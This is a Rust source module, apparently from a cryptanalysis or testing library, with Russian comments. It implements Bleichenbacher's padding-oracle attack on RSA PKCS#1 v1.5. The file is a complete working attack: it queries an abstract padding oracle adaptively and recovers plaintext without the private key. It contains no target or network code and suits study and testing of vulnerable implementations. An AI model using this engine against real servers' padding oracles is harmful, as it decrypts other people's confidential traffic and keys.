use crate::attacks::intervals::{refine, Bounds, Interval, IntervalSet};
use crate::number_theory::{ceil_div, invmod};
use crate::oracle::PaddingOracle;
use crate::padding::{self, PaddingError};
use log::{debug, trace};
use num_bigint::BigUint;
use num_traits::{One, Zero};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use thiserror::Error;

#[derive(Debug, Error)]
pub enum BleichenbacherError {
    /// Оракул отверг сам якорный шифротекст — атаковать нечего
    #[error("oracle rejected the (blinded) target ciphertext")]
    NonConformantCiphertext,
    /// Сужение дало пустое множество: нарушен инвариант, ошибка в арифметике
    #[error("interval refinement produced an empty set")]
    EmptyIntervalSet,
    #[error("gave up after {0} iterations")]
    IterationLimitExceeded(u64),
    #[error("attack cancelled")]
    Cancelled,
    #[error("blinding factor has no inverse modulo n")]
    InvalidBlindingFactor,
    #[error(transparent)]
    Padding(#[from] PaddingError),
}

/// Фаза поиска очередного множителя (шаги 2a / 2b / 2c из статьи)
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SearchPhase {
    /// Первый множитель: линейный перебор от ⌈n / 3B⌉
    Initial,
    /// Больше одного интервала: линейный перебор от s + 1
    MultiInterval,
    /// Один интервал: быстрый поиск по числу оборотов r
    SingleInterval,
}

/// События хода атаки для внешнего наблюдателя
#[derive(Clone, Debug)]
pub enum ProgressEvent {
    PhaseStarted {
        iteration: u64,
        phase: SearchPhase,
    },
    MultiplierFound {
        iteration: u64,
        s: BigUint,
        queries: u64,
    },
    Refined {
        iteration: u64,
        intervals: Vec<Interval>,
        volume: BigUint,
    },
}

#[derive(Debug)]
pub struct AttackOutcome {
    /// Байты исходного сообщения после снятия паддинга
    pub message: Vec<u8>,
    /// Восстановленное дополненное значение (как целое)
    pub padded: BigUint,
    pub oracle_queries: u64,
    pub iterations: u64,
}

/// Атака Блейхенбахера (CRYPTO '98) на RSA с паддингом PKCS#1 v1.5.
///
/// Движку нужен только открытый ключ (n, e) и оракул паддинга; закрытый ключ
/// не используется. Поиск адаптивный и строго последовательный: каждый
/// следующий запрос к оракулу зависит от ответа на предыдущий.
pub struct BleichenbacherAttack<'a> {
    oracle: &'a dyn PaddingOracle,
    n: BigUint,
    e: BigUint,
    bounds: Bounds,
    s0: BigUint,
    iteration_limit: Option<u64>,
    cancel: Option<Arc<AtomicBool>>,
}

impl<'a> BleichenbacherAttack<'a> {
    pub fn new(oracle: &'a dyn PaddingOracle, n: &BigUint, e: &BigUint) -> Self {
        let bounds = Bounds::from_modulus(n);
        Self {
            oracle,
            n: n.clone(),
            e: e.clone(),
            bounds,
            s0: BigUint::one(),
            iteration_limit: None,
            cancel: None,
        }
    }

    /// Ослепляющий множитель s0; по умолчанию 1 (без ослепления)
    pub fn with_blinding(mut self, s0: BigUint) -> Self {
        self.s0 = s0;
        self
    }

    /// Защитный потолок числа итераций; в эталонном поведении его нет
    pub fn with_iteration_limit(mut self, limit: u64) -> Self {
        self.iteration_limit = Some(limit);
        self
    }

    /// Флаг внешней отмены, проверяется между запросами к оракулу
    pub fn with_cancel_flag(mut self, flag: Arc<AtomicBool>) -> Self {
        self.cancel = Some(flag);
        self
    }

    pub fn recover(&self, ciphertext: &BigUint) -> Result<AttackOutcome, BleichenbacherError> {
        self.recover_with_observer(ciphertext, &mut |_| {})
    }

    pub fn recover_with_observer(
        &self,
        ciphertext: &BigUint,
        observer: &mut dyn FnMut(&ProgressEvent),
    ) -> Result<AttackOutcome, BleichenbacherError> {
        let one = BigUint::one();
        let s0_inv = invmod(&self.s0, &self.n)
            .ok_or(BleichenbacherError::InvalidBlindingFactor)?;

        // Шаг 1: якорь c0 = c * s0^e mod n
        let c0 = (ciphertext % &self.n) * self.s0.modpow(&self.e, &self.n) % &self.n;

        let mut queries: u64 = 0;
        if !self.query(&c0, &one, &mut queries) {
            return Err(BleichenbacherError::NonConformantCiphertext);
        }

        let mut m = IntervalSet::full_range(&self.bounds);
        let mut s = one.clone();
        let mut iteration: u64 = 0;

        loop {
            iteration += 1;
            if let Some(limit) = self.iteration_limit {
                if iteration > limit {
                    return Err(BleichenbacherError::IterationLimitExceeded(limit));
                }
            }

            // Шаг 2: выбор стратегии по номеру итерации и числу интервалов
            let phase = if iteration == 1 {
                SearchPhase::Initial
            } else if m.len() > 1 {
                SearchPhase::MultiInterval
            } else {
                SearchPhase::SingleInterval
            };
            observer(&ProgressEvent::PhaseStarted { iteration, phase });

            s = match phase {
                SearchPhase::Initial => {
                    let start = ceil_div(&self.n, &self.bounds.b3);
                    self.find_multiplier(&c0, LinearCandidates { next: start }, &mut queries)?
                }
                SearchPhase::MultiInterval => {
                    let start = &s + &one;
                    self.find_multiplier(&c0, LinearCandidates { next: start }, &mut queries)?
                }
                SearchPhase::SingleInterval => {
                    let interval = m.first().ok_or(BleichenbacherError::EmptyIntervalSet)?;
                    let candidates = FastCandidates::new(interval, &s, &self.bounds);
                    self.find_multiplier(&c0, candidates, &mut queries)?
                }
            };
            observer(&ProgressEvent::MultiplierFound {
                iteration,
                s: s.clone(),
                queries,
            });

            // Шаг 3: сужение множества по найденному множителю
            m = refine(&m, &s, &self.bounds);
            if m.is_empty() {
                return Err(BleichenbacherError::EmptyIntervalSet);
            }
            debug!(
                "iteration {}: {:?}, |M| = {}, s bits = {}, queries = {}",
                iteration,
                phase,
                m.len(),
                s.bits(),
                queries
            );
            observer(&ProgressEvent::Refined {
                iteration,
                intervals: m.iter().cloned().collect(),
                volume: m.volume(),
            });

            // Шаг 4: остановка, когда остался интервал из одной точки
            if let Some(point) = m.as_point() {
                let padded = point * &s0_inv % &self.n;
                let block = padding::to_block(&padded, self.bounds.k);
                let message = padding::unpad(&block)?;
                return Ok(AttackOutcome {
                    message,
                    padded,
                    oracle_queries: queries,
                    iterations: iteration,
                });
            }
        }
    }

    /// Тянет кандидатов из итератора, пока оракул не ответит «да».
    /// Отмена проверяется перед каждым запросом.
    fn find_multiplier(
        &self,
        c0: &BigUint,
        candidates: impl Iterator<Item = BigUint>,
        queries: &mut u64,
    ) -> Result<BigUint, BleichenbacherError> {
        for s in candidates {
            if let Some(flag) = &self.cancel {
                if flag.load(Ordering::Relaxed) {
                    return Err(BleichenbacherError::Cancelled);
                }
            }
            if self.query(c0, &s, queries) {
                return Ok(s);
            }
        }
        unreachable!("candidate iterators are unbounded")
    }

    /// Один запрос к оракулу: конформен ли c0 * s^e mod n
    fn query(&self, c0: &BigUint, s: &BigUint, queries: &mut u64) -> bool {
        *queries += 1;
        let c = c0 * s.modpow(&self.e, &self.n) % &self.n;
        let answer = self.oracle.is_conformant(&c);
        trace!("query #{}: s bits = {}, conformant = {}", queries, s.bits(), answer);
        answer
    }
}

/// Шаги 2a/2b: ленивый линейный перебор s, s+1, s+2, ...
struct LinearCandidates {
    next: BigUint,
}

impl Iterator for LinearCandidates {
    type Item = BigUint;

    fn next(&mut self) -> Option<BigUint> {
        let current = self.next.clone();
        self.next += 1u32;
        Some(current)
    }
}

/// Шаг 2c: для единственного интервала [a, b] кандидаты перебираются по
/// растущему числу оборотов r; на каждый r приходится узкое окно
/// s ∈ [⌈(2B + r·n) / b⌉, ⌈(3B + r·n) / a⌉), возможно пустое.
struct FastCandidates {
    n: BigUint,
    b2: BigUint,
    b3: BigUint,
    a: BigUint,
    b: BigUint,
    r: BigUint,
    s: BigUint,
    upper: BigUint,
}

impl FastCandidates {
    fn new(interval: &Interval, s_prev: &BigUint, bounds: &Bounds) -> Self {
        let a = interval.low.clone();
        let b = interval.high.clone();
        let b_s = &b * s_prev;
        let r = if b_s > bounds.b2 {
            ceil_div(&((&b_s - &bounds.b2) * 2u32), &bounds.n)
        } else {
            BigUint::zero()
        };
        let r_n = &r * &bounds.n;
        let s = ceil_div(&(&bounds.b2 + &r_n), &b);
        let upper = ceil_div(&(&bounds.b3 + &r_n), &a);
        FastCandidates {
            n: bounds.n.clone(),
            b2: bounds.b2.clone(),
            b3: bounds.b3.clone(),
            a,
            b,
            r,
            s,
            upper,
        }
    }
}

impl Iterator for FastCandidates {
    type Item = BigUint;

    fn next(&mut self) -> Option<BigUint> {
        loop {
            if self.s < self.upper {
                let current = self.s.clone();
                self.s += 1u32;
                return Some(current);
            }
            self.r += 1u32;
            let r_n = &self.r * &self.n;
            self.s = ceil_div(&(&self.b2 + &r_n), &self.b);
            self.upper = ceil_div(&(&self.b3 + &r_n), &self.a);
        }
    }
}
